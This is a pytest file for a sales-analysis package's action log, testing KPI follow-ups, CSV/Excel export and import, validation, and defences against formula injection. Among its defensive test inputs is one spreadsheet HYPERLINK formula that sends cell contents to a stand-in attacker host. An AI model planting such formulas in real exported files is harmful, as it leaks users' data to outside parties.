"""The action log: agreed in one review, followed up with its KPI at the next one."""

import pandas as pd
import pytest

import salesanalysis as sa
from salesanalysis import cli, kpi
from salesanalysis.analyses import actions
from salesanalysis.errors import DataValidationError

from builders import FIELD_REPS as REPS, build, opp, revenue_targets


@pytest.fixture
def wb(tmp_path):
    # March: R1 wins 1,200 (target 1,000), R2 wins 500 (target 1,000); April: R2 wins 900
    deals = [opp(1, "R1", "2025-01-01", "won", "2025-03-10", 1200),
             opp(2, "R2", "2025-01-01", "won", "2025-03-12", 500),
             opp(3, "R2", "2025-02-01", "won", "2025-04-08", 900)]
    targets = revenue_targets(("2025-03", "R1", 1000), ("2025-03", "R2", 1000))
    book = build(as_of="2025-04-30", reps=REPS, opportunities=deals, targets=targets)
    yield book
    book.close()


@pytest.fixture
def rules(rules_path):
    return str(rules_path)


def test_agreed_findings_become_open_actions_with_their_kpi(wb, rules):
    rows = actions.agree(wb, rep="R2", period="2025-03", rules=rules)
    row = rows.iloc[0]
    assert len(rows) == 1 and row["action_id"] == "R2-2025-03-behind_target-revenue"
    assert (row["finding"], row["kpi"], row["kpi_before"], row["direction"]) == (
        "behind_target", "revenue", 500, "up")
    assert row["text"] == "Agree a next step on every deal due in 2025-04."
    assert str(pd.Timestamp(row["due_at"]).date()) == "2025-05-07"  # 7 days after the data
    stored = actions.log(wb)
    assert stored["action_id"].tolist() == [row["action_id"]] and stored["status"][0] == "open"
    # recording actions is not new data: the data date stays
    assert kpi.data_date(wb) == pd.Timestamp("2025-04-30")


def test_next_review_shows_status_and_kpi_move(wb, rules):
    (action_id,) = actions.agree(wb, rep="R2", period="2025-03", rules=rules)["action_id"]
    assert actions.follow_up(wb, rep="R2", period="2025-03", rules=rules).empty
    actions.set_status(wb, action_id, "done", notes="called every buyer")
    seen = actions.follow_up(wb, rep="R2", period="2025-04", rules=rules).iloc[0]
    assert seen["status"] == "done" and seen["notes"] == "called every buyer"
    assert pd.Timestamp(seen["reviewed_at"]) == pd.Timestamp("2025-04-30")
    # revenue went from 500 in March to 900 in April: up, as intended
    assert (seen["kpi_before"], seen["kpi_now"], seen["change"], seen["moved"]) == (
        500, 900, 400, "yes")
    assert actions.follow_up(wb, rep="R1", period="2025-04", rules=rules).empty


def test_a_kpi_moving_the_wrong_way_is_no(wb):
    action_id = actions.add(wb, rep="R1", text="Keep the pace", period="2025-03",
                            kpi_name="revenue", direction="up", due="2025-04-30")
    seen = actions.follow_up(wb, rep="R1", period="2025-04").iloc[0]
    assert seen["action_id"] == action_id == "R1-A0001"
    assert (seen["kpi_before"], seen["kpi_now"], seen["moved"]) == (1200, 0, "no")
    # an action without a KPI is followed up without a verdict
    actions.add(wb, rep="R1", text="Shadow a senior colleague", period="2025-03")
    assert actions.follow_up(wb, rep="R1", period="2025-04")["moved"].tolist() == ["no", None]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_an_edited_export_reads_back(wb, rules, tmp_path, suffix):
    actions.agree(wb, rep="R2", period="2025-03", rules=rules)
    path = actions.export(wb, tmp_path / f"log{suffix}")
    edited = pd.read_csv(path) if suffix == ".csv" else pd.read_excel(path, sheet_name="actions")
    edited.loc[0, "status"] = "dropped"
    new = edited.iloc[[0]].assign(action_id="R1-X1", rep_id="R1", text="Visit the top 5 accounts",
                                  status="open")
    edited = pd.concat([edited, new], ignore_index=True)
    if suffix == ".csv":
        edited.to_csv(path, index=False)
    else:
        edited.to_excel(path, sheet_name="actions", index=False)
    actions.import_file(wb, path)
    log = actions.log(wb).set_index("action_id")
    assert log.loc["R2-2025-03-behind_target-revenue", "status"] == "dropped"
    assert log.loc["R1-X1", "text"] == "Visit the top 5 accounts"


def test_bad_edits_are_refused_together_with_file_row_and_column(wb, rules, tmp_path):
    actions.agree(wb, rep="R2", period="2025-03", rules=rules)
    path = actions.export(wb, tmp_path / "log.csv")
    edited = pd.read_csv(path)
    edited.loc[0, "status"] = "finished"
    edited.loc[0, "direction"] = "sideways"
    edited.to_csv(path, index=False)
    with pytest.raises(DataValidationError) as error:
        actions.import_file(wb, path)
    message = str(error.value)
    assert "log.csv row 2, column status = 'finished'" in message
    assert "log.csv row 2, column direction = 'sideways'" in message
    assert actions.log(wb)["status"].tolist() == ["open"]  # nothing stored


def test_argument_errors(wb, rules, tmp_path):
    with pytest.raises(ValueError, match="no finding target_beaten for R2 in 2025-03; the "
                                         "findings are: behind_target"):
        actions.agree(wb, rep="R2", period="2025-03", rules=rules, only=["target_beaten"])
    with pytest.raises(ValueError, match="status must be one of open, done, dropped"):
        actions.log(wb, status="closed")
    with pytest.raises(KeyError, match="no action NOPE"):
        actions.set_status(wb, "NOPE", "done")
    with pytest.raises(ValueError, match=".csv or .xlsx"):
        actions.export(wb, tmp_path / "log.json")
    with pytest.raises(ValueError, match="kpi must be a KPI name .* got 'happiness'"):
        actions.add(wb, rep="R1", text="Smile", kpi_name="happiness", period="2025-03")
    with pytest.raises(DataValidationError, match="column due_at = '2025-13-40'"):
        actions.add(wb, rep="R1", text="Call back", due="2025-13-40")
    assert actions.log(wb).empty


def test_cli_agrees_marks_and_lists(tmp_path, rules, capsys):
    deals = [opp(1, "R2", "2025-01-01", "won", "2025-03-12", 500)]
    targets = revenue_targets(("2025-03", "R2", 1000))
    path = tmp_path / "wb.duckdb"
    frames = {"reps": pd.DataFrame(REPS), "opportunities": pd.DataFrame(deals),
              "targets": pd.DataFrame(targets)}
    sa.Workbook.from_frames(frames, path=path, strict=True, as_of="2025-04-30").close()
    assert cli.main(["actions", "agree", "--workbook", str(path), "--rep", "R2",
                     "--period", "2025-03", "--rules", rules]) == 0
    assert cli.main(["actions", "status", "R2-2025-03-behind_target-revenue", "--set", "done",
                     "--workbook", str(path)]) == 0
    capsys.readouterr()
    assert cli.main(["actions", "list", "--workbook", str(path), "--status", "done"]) == 0
    assert "R2-2025-03-behind_target-revenue" in capsys.readouterr().out
    assert cli.main(["actions", "status", "NOPE", "--set", "done",
                     "--workbook", str(path)]) == 1
    assert "no action NOPE in the log" in capsys.readouterr().err


def test_a_workbook_from_before_the_action_columns_still_reads(tmp_path):
    import duckdb

    path = tmp_path / "old.duckdb"
    sa.Workbook.from_frames({"reps": pd.DataFrame(REPS)}, path=path, as_of="2025-04-30").close()
    with duckdb.connect(str(path)) as con:
        for column in ("period", "kpi", "kpi_before", "direction", "criterion", "notes"):
            con.execute(f"ALTER TABLE actions DROP COLUMN {column}")
    with sa.open_workbook(path, read_only=True) as old:
        assert actions.log(old).columns.tolist() == actions.COLUMNS
        assert actions.follow_up(old, rep="R1", period="2025-04").empty
    with sa.open_workbook(path) as writable:  # opened for writing, it gains them
        actions.add(writable, rep="R1", text="Call back", period="2025-03")
        assert actions.log(writable)["period"].tolist() == ["2025-03"]


# every start a spreadsheet may take for a formula, and quotes that look like the CSV guard
# (a stored text never starts with a blank: the import trims it)
FORMULA_TEXTS = ['=HYPERLINK("http://evil.example/?leak="&B2,"Open the plan")', "+1+1",
                 "-2+3", "@SUM(A1:A9)", "=", "'=already quoted", "''+two quotes",
                 "'\ttab", "'plain quote", "plain = text", "a\n=b"]
C0 = "".join(chr(c) for c in [*range(0x00, 0x09), 0x0b, 0x0c, *range(0x0e, 0x20)])


def _cells(path):
    import openpyxl

    return [cell for sheet in openpyxl.load_workbook(path) for row in sheet.iter_rows()
            for cell in row]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_text_like_a_formula_stays_text_and_reads_back_unchanged(wb, tmp_path, suffix):
    import csv

    for text in FORMULA_TEXTS:
        actions.add(wb, rep="R1", text=text, owner=text, criterion=text)
    before = actions.log(wb)
    path = actions.export(wb, tmp_path / f"log{suffix}")
    if suffix == ".xlsx":
        assert not [c.coordinate for c in _cells(path) if c.data_type == "f"]
        texts = {c.value for c in _cells(path) if c.column_letter == "F"}  # the text column
        assert set(FORMULA_TEXTS) <= texts
    else:
        with path.open(newline="", encoding="utf-8") as f:
            fields = [v for row in csv.reader(f) for v in row]
        assert not [v for v in fields if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
    actions.import_file(wb, path)
    after = actions.log(wb)
    for column in ("text", "owner", "criterion"):
        assert after[column].tolist() == before[column].tolist() == FORMULA_TEXTS


def test_the_csv_guard_round_trips_every_formula_start():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        for quotes in ("", "'", "''"):
            text = f"{quotes}{start}x"
            guarded = actions._guard(text)
            assert guarded == "'" + text and actions._unguard(guarded) == text
    for text in ("'x", "x=1", "", "'"):
        assert actions._guard(text) == text == actions._unguard(text)


def test_excel_text_starting_like_a_formula_is_a_text_cell(tmp_path):
    # a leading CR too, but the file's XML reads a CR back as a line feed
    texts = [f"{start}x" for start in ("=", "+", "-", "@", "\t")]
    path = actions.write_xlsx(tmp_path / "t.xlsx", {"t": pd.DataFrame({"text": texts})})
    cells = [c for c in _cells(path) if c.row > 1]
    assert [(c.value, c.data_type, c.quotePrefix) for c in cells] == [
        (t, "s", True) for t in texts]


def test_a_control_character_is_refused_naming_the_field(wb):
    for character in C0:
        with pytest.raises(ValueError, match=r"text must not contain control characters.*U\+"):
            actions.add(wb, rep="R1", text=f"call{character}back")
    for field in ("owner", "criterion", "period", "finding"):
        with pytest.raises(ValueError, match=f"^{field} must not contain control characters"):
            actions.add(wb, rep="R1", text="Call back", **{field: "a\x01b"})
    assert actions.log(wb).empty
    action_id = actions.add(wb, rep="R1", text="tabs\tand\nnew lines are text")
    with pytest.raises(ValueError, match="notes must not contain control characters"):
        actions.set_status(wb, action_id, "done", notes="bell\x07")
    assert actions.log(wb)["status"].tolist() == ["open"]


def _store_control_characters(wb):
    """An action whose text and owner hold every C0 control character, as an import of
    an older file may have stored."""
    actions.add(wb, rep="R1", text="placeholder", period="2025-03")
    row = actions.log(wb).assign(text=f"a{C0}b", owner=f"o{C0}")
    wb.import_data({"actions": row}, strict=True)
    assert actions.log(wb)["text"].tolist() == [f"a{C0}b"]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_stored_control_characters_still_export(wb, tmp_path, suffix):
    _store_control_characters(wb)
    path = actions.export(wb, tmp_path / f"log{suffix}")
    shown = pd.read_csv(path) if suffix == ".csv" else pd.read_excel(path, sheet_name="actions")
    assert shown["text"].tolist() == ["a" + actions.PLACEHOLDER * len(C0) + "b"]
    assert shown["owner"].tolist() == ["o" + actions.PLACEHOLDER * len(C0)]


def test_a_failed_excel_write_leaves_the_earlier_file_whole(tmp_path, monkeypatch):
    path = tmp_path / "log.xlsx"
    actions.write_xlsx(path, {"actions": pd.DataFrame({"text": ["earlier"]})})

    def fail(sheet):
        raise OSError("disk full")

    monkeypatch.setattr(actions, "_keep_text", fail)
    with pytest.raises(OSError, match="disk full"):
        actions.write_xlsx(path, {"actions": pd.DataFrame({"text": ["later"]})})
    assert pd.read_excel(path)["text"].tolist() == ["earlier"]
    assert [p.name for p in tmp_path.iterdir()] == ["log.xlsx"]  # no part file left
    with pytest.raises(OSError):
        actions.write_xlsx(tmp_path / "new.xlsx", {"actions": pd.DataFrame({"text": ["x"]})})
    assert [p.name for p in tmp_path.iterdir()] == ["log.xlsx"]


def test_import_reads_only_the_actions_sheet(wb, tmp_path):
    import openpyxl

    from salesanalysis.errors import SourceError

    actions.add(wb, rep="R1", text="Call back", period="2025-03")
    reps_before = wb.table("reps").to_pandas()
    targets_before = wb.table("targets").to_pandas()
    path = actions.export(wb, tmp_path / "log.xlsx")
    book = openpyxl.load_workbook(path)
    book["actions"]["F2"] = "Call back twice"
    book.create_sheet("reps").append(["rep_id", "name"])
    book["reps"].append(["R1", "Hijacked"])
    book.create_sheet("Targets").append(["period", "scope_level", "scope_id", "metric", "value"])
    book["Targets"].append(["2025-03", "rep", "R1", "revenue", 1])
    book.create_sheet("opportunities").append(["opportunity_id", "rep_id"])
    book.save(path)
    report = actions.import_file(wb, path)
    assert actions.log(wb)["text"].tolist() == ["Call back twice"]
    pd.testing.assert_frame_equal(wb.table("reps").to_pandas(), reps_before)
    pd.testing.assert_frame_equal(wb.table("targets").to_pandas(), targets_before)
    assert [r.table for r in report.results] == ["actions"]
    assert report.ignored == [f"log.xlsx[{s}] (only the actions sheet is read)"
                              for s in ("reps", "Targets", "opportunities")]
    assert "ignored: log.xlsx[reps]" in str(report)
    del book["actions"]
    book.save(path)
    with pytest.raises(SourceError, match="no sheet 'actions'.*'reps', 'Targets'"):
        actions.import_file(wb, path)
    pd.testing.assert_frame_equal(wb.table("reps").to_pandas(), reps_before)
